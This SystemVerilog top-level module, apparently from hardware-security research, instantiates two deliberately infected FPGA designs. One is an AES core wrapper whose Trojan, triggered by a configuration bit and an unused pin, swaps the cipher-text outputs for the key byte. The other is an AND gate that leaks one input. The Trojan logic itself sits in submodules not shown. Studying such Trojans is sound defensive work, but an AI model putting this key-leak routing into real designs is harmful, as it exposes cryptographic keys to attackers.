// Top level: the two infected designs side by side.
//
// Left: the AES key-leak Trojan. The AES-128 core (8-bit data interface) is
// outside this RTL; its cipher-text register output (aes_ct_i) and the key
// byte it receives (aes_key_i) are ports. aes_out_o goes to the eight
// primary outputs, which show the cipher text, or the key byte when the
// Trojan PIP is closed and the unused pin aes_trig_pin_i is high.
//
// Right: the AND-gate demonstration, which leaks input b through its own
// barrier gate and Trojan PIP.
//
// Each design has its own configuration write port, because each is loaded
// from its own bitstream. Configuration cells are written on the rising edge
// of clk and cleared by the active-low asynchronous rst_n; all data paths
// are combinational.
module malicious_routing_top
  import trojan_pkg::*;
#(
  parameter int unsigned           WIDTH      = 8,
  parameter enable_src_e           ENABLE_SRC = EN_IO_PIN,
  parameter int unsigned           CFG_ADDR_W = trojan_pkg::CFG_ADDR_BITS,
  parameter logic [CFG_ADDR_W-1:0] TPIP_ADDR  = trojan_pkg::TPIP_BIT_ADDR
) (
  input  logic                  clk,
  input  logic                  rst_n,
  // AES key-leak design
  input  logic                  aes_cfg_we_i,
  input  logic [CFG_ADDR_W-1:0] aes_cfg_addr_i,
  input  logic                  aes_cfg_data_i,
  input  logic [WIDTH-1:0]      aes_ct_i,
  input  logic [WIDTH-1:0]      aes_key_i,
  input  logic                  aes_trig_pin_i,
  output logic [WIDTH-1:0]      aes_out_o,
  output logic                  aes_trojan_active_o,
  // AND-gate demonstration design
  input  logic                  and_cfg_we_i,
  input  logic [CFG_ADDR_W-1:0] and_cfg_addr_i,
  input  logic                  and_cfg_data_i,
  input  logic                  and_a_i,
  input  logic                  and_b_i,
  input  logic                  and_trig_pin_i,
  output logic                  and_y_o
);

  aes_key_leak #(
    .WIDTH      (WIDTH),
    .ENABLE_SRC (ENABLE_SRC),
    .CFG_ADDR_W (CFG_ADDR_W),
    .TPIP_ADDR  (TPIP_ADDR)
  ) u_aes_key_leak (
    .clk             (clk),
    .rst_n           (rst_n),
    .cfg_we_i        (aes_cfg_we_i),
    .cfg_addr_i      (aes_cfg_addr_i),
    .cfg_data_i      (aes_cfg_data_i),
    .ct_i            (aes_ct_i),
    .key_i           (aes_key_i),
    .trig_pin_i      (aes_trig_pin_i),
    .out_o           (aes_out_o),
    .trojan_active_o (aes_trojan_active_o)
  );

  and_gate_demo #(
    .CFG_ADDR_W (CFG_ADDR_W),
    .TPIP_ADDR  (TPIP_ADDR)
  ) u_and_gate_demo (
    .clk        (clk),
    .rst_n      (rst_n),
    .cfg_we_i   (and_cfg_we_i),
    .cfg_addr_i (and_cfg_addr_i),
    .cfg_data_i (and_cfg_data_i),
    .a_i        (and_a_i),
    .b_i        (and_b_i),
    .trig_pin_i (and_trig_pin_i),
    .y_o        (and_y_o)
  );

endmodule
